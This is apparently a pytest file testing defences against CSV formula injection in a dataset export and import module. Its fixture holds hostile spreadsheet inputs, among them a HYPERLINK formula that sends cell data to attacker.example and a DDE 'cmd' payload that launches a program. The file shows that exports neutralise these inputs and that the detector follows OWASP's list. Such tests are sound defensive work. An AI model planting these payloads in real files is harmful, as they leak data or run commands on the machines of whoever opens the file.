"""CSV and spreadsheets, which run a text as a formula if it begins like one."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from db.files.exporter import export_csv
from db.files.importer import import_files
from db.files.spreadsheet_cell import SpreadsheetCells, is_formula
from db.ingestion.row import NewRow
from db.records.dataset import Dataset
from db.store.store import Store
from tests.conftest import ask, register, sample_spec

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
TEXTS = [FORMULA, "@SUM(A1)", "-2+3+cmd|' /C calc'!A0", "+1+2", "une phrase", "-5", "'déjà"]


@pytest.fixture
def asked(store: Store) -> Dataset:
    """Return a dataset for which clients have asked hostile and other texts."""
    dataset = register(store, sample_spec("intents"))
    inputs = [dataset.spec.read_inputs({"sentence": text}) for text in TEXTS]
    with store.writing() as connection:
        ask(connection, dataset.id, [NewRow(dataset.spec.key(one), one) for one in inputs])
    return dataset


def exported(store: Store, dataset: Dataset, cells: SpreadsheetCells) -> tuple[str, list[str]]:
    """Return an export as CSV, and its sentences."""
    out = io.StringIO(newline="")
    export_csv(store, dataset, out, cells)
    rows = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    return out.getvalue(), [row["sentence"] for row in rows]


def test_an_export_for_spreadsheets_has_no_formula(store: Store, asked: Dataset) -> None:
    """An apostrophe makes a text of it; a number stays a number."""
    _, sentences = exported(store, asked, SpreadsheetCells(for_spreadsheet=True))
    assert sorted(sentences) == sorted([f"'{text}" for text in TEXTS[:4]] + TEXTS[4:])


def test_an_export_has_texts_as_they_are_and_can_be_imported_again(
    store: Store, asked: Dataset, tmp_path: Path
) -> None:
    """A changed text would be another record; the formulas are counted, to be warned of."""
    cells = SpreadsheetCells(for_spreadsheet=False)
    written, sentences = exported(store, asked, cells)
    assert sorted(sentences) == sorted(TEXTS)
    assert cells.formulas == 4
    file = tmp_path / "export.csv"
    file.write_text(written, "utf-8", newline="")
    import_files(store, asked, [file])
    assert sorted(exported(store, asked, cells)[1]) == sorted(TEXTS)


@pytest.mark.parametrize("value", [None, 5, -5, -0.5, True, "", "-5", "+1.5e3", "a=b", "d'une"])
def test_a_number_or_another_text_is_no_formula(value: object) -> None:
    """Columns of numbers stay numbers."""
    assert not is_formula(value)


@pytest.mark.parametrize("value", ["=1", "+a", "-a", "@a", "\t=1", "\r=1", "＝1", "--1", "-1+1"])
def test_a_text_that_begins_like_a_formula_is_one(value: str) -> None:
    """The list is that of OWASP's page on CSV injection."""
    assert is_formula(value)
